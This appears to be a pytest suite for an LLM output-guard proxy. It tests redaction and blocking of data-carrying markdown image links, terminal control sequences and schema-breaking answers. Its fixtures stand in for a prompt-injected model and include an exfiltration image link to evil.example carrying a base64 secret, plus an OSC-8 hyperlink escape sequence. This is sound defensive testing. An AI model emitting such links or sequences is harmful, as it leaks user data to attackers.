"""Issue 15 item 7: links that carry data away, terminal control sequences and answers that break their schema.

Through the real proxy with the official SDK; the fake upstream plays a model that read a planted instruction.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import openai
import pytest

from tests.audit_wait import audit_row
from tests.fake_upstream import FakeUpstream, Reply
from tests.policies import write_policy_with
from tests.proxy_harness import ProxyServer

SECRET = "SGVsbG8gd29ybGQsIHRoaXMgaXMgYSBzZWNyZXQgdG9rZW4gZm9yIHRoZSBhdHRhY2tlcg"  # base64, 70 characters
EXFIL = f"![chart](https://evil.example/c.png?d={SECRET})"
SCHEMA = {
    "type": "object",
    "properties": {"answer": {"type": "string"}},
    "required": ["answer"],
    "additionalProperties": False,
}
JSON_SCHEMA_FORMAT: Any = {"type": "json_schema", "json_schema": {"name": "reply", "schema": SCHEMA, "strict": True}}


@pytest.fixture(scope="module")
def redacting(upstream_server: FakeUpstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ProxyServer]:
    """Links outside docs.example.com (or carrying data) redacted, control sequences stripped, schema flagged."""
    directory = tmp_path_factory.mktemp("redacting")
    policy = write_policy_with(
        directory,
        upstream_server.base_url,
        detectors="  links: {type: url_guard, allow_hosts: [docs.example.com]}\n  terminal: {type: control_chars}\n",
        output_steps="  - {detector: links, action: redact}\n  - {detector: terminal, action: strip}\n",
    )
    with ProxyServer(policy) as server:
        yield server


@pytest.fixture(scope="module")
def blocking(upstream_server: FakeUpstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ProxyServer]:
    """Any image link blocks the answer, control sequences escaped, answers breaking their schema blocked."""
    directory = tmp_path_factory.mktemp("blocking")
    policy = write_policy_with(
        directory,
        upstream_server.base_url,
        detectors="  links: {type: url_guard, allow_hosts: [], images_only: true}\n  terminal: {type: control_chars}\n",
        output_steps="  - {detector: links, action: block}\n  - {detector: terminal, action: escape}\n",
        proxy="  response_schema: block\n",
    )
    with ProxyServer(policy) as server:
        yield server


def _client(server: ProxyServer) -> openai.OpenAI:
    return openai.OpenAI(base_url=server.url + "/v1", api_key="k", max_retries=0)


def _ask(server: ProxyServer, **kwargs: Any) -> Any:
    with _client(server) as client:  # closed, not left to the GC
        return client.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": "Summarise the page."}], **kwargs
        )


def _streamed(server: ProxyServer, **kwargs: Any) -> tuple[str, str | None]:
    text, finish = "", None
    with _client(server) as client:
        stream = client.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": "Summarise the page."}], stream=True, **kwargs
        )
        for chunk in stream:
            for choice in chunk.choices:
                text += choice.delta.content or ""
                finish = choice.finish_reason or finish
    return text, finish


# ---------------------------------------------------------------- url_guard


def test_markdown_image_to_another_host_is_redacted(redacting: ProxyServer, upstream: FakeUpstream) -> None:
    upstream.enqueue(Reply(content=f"See {EXFIL} and [the guide](https://docs.example.com/guide)."))
    content = _ask(redacting).choices[0].message.content
    assert "evil.example" not in content and SECRET[:12] not in content
    assert content == "See [LINK] and [the guide](https://docs.example.com/guide)."


def test_allowed_host_with_encoded_data_is_redacted(redacting: ProxyServer, upstream: FakeUpstream) -> None:
    upstream.enqueue(Reply(content=f"Open https://docs.example.com/track?id={SECRET} now."))
    content = _ask(redacting).choices[0].message.content
    assert content == "Open [LINK] now."


def test_a_link_split_across_chunks_is_held_back_whole(redacting: ProxyServer, upstream: FakeUpstream) -> None:
    # The URL's start leaves the stream guard's context before its data arrives: judged piece by piece, the
    # data would pass as text without a URL around it.
    long_path = "https://docs.example.com/guides/getting-started/installation/linux/ubuntu/jammy/x86/notes.png"
    chunks = [f"Read ![guide]({long_path}", f"?d={SECRET}", ") then go on. The end."]
    upstream.enqueue(Reply(content="".join(chunks), chunks=chunks))
    text, finish = _streamed(redacting)
    assert SECRET[:8] not in text
    assert text == "Read [LINK] then go on. The end."
    assert finish == "stop"


def test_an_image_link_stops_a_streamed_answer(blocking: ProxyServer, upstream: FakeUpstream) -> None:
    chunks = ["Here is the chart: ![c](https://ev", "il.example/c.png?d=", SECRET, ") as asked."]
    upstream.enqueue(Reply(content="".join(chunks), chunks=chunks))
    text, finish = _streamed(blocking)
    assert finish == "content_filter"
    assert "Here is the chart: ".startswith(text)  # at most the text before the link, none of the link


def test_plain_links_pass_when_only_images_are_checked(blocking: ProxyServer, upstream: FakeUpstream) -> None:
    upstream.enqueue(Reply(content="Docs: https://python.org/3/library/asyncio.html and [x](https://a.example/b)."))
    completion = _ask(blocking)
    assert completion.choices[0].finish_reason == "stop"
    assert completion.choices[0].message.content.startswith("Docs: https://python.org/3/library/asyncio.html")


# ---------------------------------------------------------------- terminal control sequences

ANSI = "Run \x1b]8;;https://evil.example/\x1b\\this\x1b]8;;\x1b\\ now. \x1b[2J\x1b[31mred\x1b[0m done.\x07"


def test_control_sequences_are_stripped(redacting: ProxyServer, upstream: FakeUpstream) -> None:
    upstream.enqueue(Reply(content=ANSI))
    assert _ask(redacting).choices[0].message.content == "Run this now. red done."


def test_control_sequences_split_across_chunks_are_stripped(redacting: ProxyServer, upstream: FakeUpstream) -> None:
    chunks = ["Run \x1b]8;;https://evil.ex", "ample/\x1b", "\\this\x1b]8;;\x1b\\ now. \x1b[3", "1mred\x1b[0m done."]
    upstream.enqueue(Reply(content="".join(chunks), chunks=chunks))
    text, _ = _streamed(redacting)
    assert text == "Run this now. red done."


def test_control_sequences_are_escaped(blocking: ProxyServer, upstream: FakeUpstream) -> None:
    upstream.enqueue(Reply(content="\x1b[31mred\x1b[0m"))
    content = _ask(blocking).choices[0].message.content
    assert content == "\\x1b[31mred\\x1b[0m"
    assert "\x1b" not in content


# ---------------------------------------------------------------- response_format json_schema


def test_answer_breaking_its_schema_is_blocked(blocking: ProxyServer, upstream: FakeUpstream) -> None:
    upstream.enqueue(Reply(content='{"answer": 42}'))
    completion = _ask(blocking, response_format=JSON_SCHEMA_FORMAT)
    assert completion.choices[0].finish_reason == "content_filter"
    assert completion.choices[0].message.content is None


def test_streamed_answer_breaking_its_schema_is_held_and_blocked(blocking: ProxyServer, upstream: FakeUpstream) -> None:
    chunks = ['{"ans', 'wer": ', "42}"]
    upstream.enqueue(Reply(content="".join(chunks), chunks=chunks))
    text, finish = _streamed(blocking, response_format=JSON_SCHEMA_FORMAT)
    assert (text, finish) == ("", "content_filter")


def test_answers_following_their_schema_pass(blocking: ProxyServer, upstream: FakeUpstream) -> None:
    upstream.enqueue(Reply(content='{"answer": "42"}'))
    assert _ask(blocking, response_format=JSON_SCHEMA_FORMAT).choices[0].message.content == '{"answer": "42"}'
    chunks = ['{"ans', 'wer": ', '"42"}']
    upstream.enqueue(Reply(content="".join(chunks), chunks=chunks))
    assert _streamed(blocking, response_format=JSON_SCHEMA_FORMAT) == ('{"answer": "42"}', "stop")
    upstream.enqueue(Reply(content="not json"))
    blocked = _ask(blocking, response_format={"type": "json_object"})
    assert blocked.choices[0].finish_reason == "content_filter"


def test_answer_breaking_its_schema_is_flagged_by_default(redacting: ProxyServer, upstream: FakeUpstream) -> None:
    upstream.enqueue(Reply(content='{"answer": 42}'))
    with _client(redacting) as client:
        raw = client.chat.completions.with_raw_response.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}], response_format=JSON_SCHEMA_FORMAT
        )
    assert raw.parse().choices[0].message.content == '{"answer": 42}'
    outcome, steps = audit_row(redacting.policy_path.parent / "audit.db", raw.headers["x-guardproxy-request-id"])
    assert outcome == "flagged"
    assert any(s["name"] == "output.response_schema" and s["labels"] == ["schema_mismatch"] for s in steps)


def test_invalid_schema_in_the_request_is_a_400(blocking: ProxyServer, upstream: FakeUpstream) -> None:
    bad: Any = {"type": "json_schema", "json_schema": {"name": "r", "schema": {"type": "nonsense"}}}
    with pytest.raises(openai.BadRequestError) as info:
        _ask(blocking, response_format=bad)
    assert info.value.code == "invalid_request"
    assert info.value.param == "response_format.json_schema.schema"
    assert upstream.requests == []
